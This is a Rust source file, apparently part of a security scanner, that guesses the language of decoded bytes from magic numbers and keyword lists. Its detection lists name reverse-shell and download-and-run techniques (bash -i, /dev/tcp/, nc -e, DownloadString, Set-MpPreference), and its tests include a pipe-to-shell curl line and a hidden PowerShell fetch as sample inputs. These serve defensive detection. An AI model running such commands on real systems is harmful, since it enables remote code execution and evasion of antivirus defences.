//! What a decoded text is, told by its content.

/// The language of decoded bytes, as in the `python/layer` fact.
pub(crate) fn language(bytes: &[u8]) -> &'static str {
    let magics: [(&[u8], &str); 8] = [
        (b"MZ", "pe"),
        (b"\x7fELF", "elf"),
        (b"PK\x03\x04", "zip"),
        (b"\x1f\x8b", "gzip"),
        (b"\x89PNG", "png"),
        (b"GIF8", "gif"),
        (b"\xff\xd8\xff", "jpeg"),
        (b"%PDF", "pdf"),
    ];
    if let Some((_, language)) = magics.iter().find(|(magic, _)| bytes.len() > 60 && bytes.starts_with(magic)) {
        return language;
    }
    let head = &bytes[..bytes.len().min(64 * 1024)];
    let Some(text) = readable(head) else { return "binary" };
    let trimmed = text.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
    let first = trimmed.lines().next().unwrap_or("");
    if first.starts_with("#!") {
        return if first.contains("python") { "python" } else { "shell" };
    }
    let lower = trimmed.to_ascii_lowercase();
    if lower.starts_with("@echo off") || lower.starts_with("@echo ") || lower.contains("\n@echo off") {
        return "batch";
    }
    let is_url = |text: &str| {
        ["http://", "https://", "ftp://", "ws://", "wss://", "tcp://"].iter().any(|scheme| text.starts_with(scheme))
    };
    if is_url(&lower) && !first.trim_end().contains(' ') && trimmed.trim_end().lines().count() == 1 {
        return "url";
    }
    if reads_as_python(trimmed) {
        return "python";
    }
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    if has(&[
        "powershell",
        "invoke-expression",
        "invoke-webrequest",
        "new-object ",
        "downloadstring",
        "iex(",
        "iex ",
        "start-process",
        "set-mppreference",
        "add-mppreference",
        "$env:",
    ]) {
        return "powershell";
    }
    if has(&["wscript.", "createobject("]) && has(&["dim ", "set ", "end sub", "function"]) {
        return "vbscript";
    }
    if has(&[
        "cmd /c",
        "cmd.exe",
        "reg add ",
        "schtasks ",
        "taskkill ",
        "certutil ",
        "bitsadmin ",
        "attrib +h",
        "rundll32",
    ]) {
        return "batch";
    }
    if has(&[
        "/bin/sh",
        "/bin/bash",
        "bash -i",
        "/dev/tcp/",
        "curl -",
        "curl http",
        "wget http",
        "wget -",
        "chmod +x",
        "sudo ",
        "| sh",
        "| bash",
        "|bash",
        "|sh",
        "nohup ",
        "crontab",
        "nc -e",
        "mkfifo",
    ]) {
        return "shell";
    }
    if has(&["function(", "=>", "document.", "require("]) && has(&["var ", "let ", "const ", "module.exports"]) {
        return "javascript";
    }
    if lower.contains("http://") || lower.contains("https://") {
        return "url";
    }
    "text"
}

/// Worth a scan of its own when something was decoded to it, wherever it then goes.
pub(crate) fn is_telling(language: &str) -> bool {
    !matches!(language, "text" | "binary" | "png" | "gif" | "jpeg" | "pdf" | "gzip" | "zip")
}

/// The bytes as text, if nearly all of them are printable.
pub(crate) fn readable(bytes: &[u8]) -> Option<&str> {
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text,
        // Cut in the middle of a character, or a few odd bytes at the end.
        Err(error) if error.valid_up_to() + 4 >= bytes.len() => {
            std::str::from_utf8(&bytes[..error.valid_up_to()]).ok()?
        }
        Err(_) => return None,
    };
    let odd = text.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t' | '\x0c' | '\x1b')).count();
    (odd * 50 <= text.len()).then_some(text)
}

/// Statements or calls as Python writes them.
pub(crate) fn reads_as_python(text: &str) -> bool {
    let mut score = 0;
    for line in text.split(['\n', ';']).take(400) {
        let line = line.trim();
        let statement = line.starts_with("import ") && !line.contains("from '") && !line.contains("from \"")
            || line.starts_with("from ") && line.contains(" import ")
            || line.starts_with("def ") && line.ends_with(':')
            || line.starts_with("class ") && line.ends_with(':')
            || line.starts_with("try:")
            || line.starts_with("except") && line.ends_with(':')
            || (line.starts_with("if ") || line.starts_with("for ") || line.starts_with("while "))
                && line.contains(':');
        score += if statement { 3 } else { 0 };
        for call in [
            "exec(",
            "eval(",
            "__import__(",
            "print(",
            "lambda ",
            "getattr(",
            "compile(",
            ".decode(",
            "globals()",
            "subprocess.",
            "os.system(",
            "base64.",
            "self.",
        ] {
            if line.contains(call) {
                score += 2;
            }
        }
        if score >= 3 {
            return true;
        }
    }
    score >= 2
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_is_told_by_its_content() {
        assert_eq!(language(b"import os\nos.system('x')"), "python");
        assert_eq!(language(b"https://host.invalid/a"), "url");
        assert_eq!(language(b"curl http://host.invalid/x | sh"), "shell");
        assert_eq!(language(b"powershell -w hidden iwr http://host.invalid"), "powershell");
        assert_eq!(language(b"hello world"), "text");
        assert_eq!(language(&[0, 1, 2, 255, 254]), "binary");
        assert_eq!(language(b"@echo off\r\ncopy a b"), "batch");
        let mut pe = b"MZ".to_vec();
        pe.resize(100, 0);
        assert_eq!(language(&pe), "pe");
    }
}
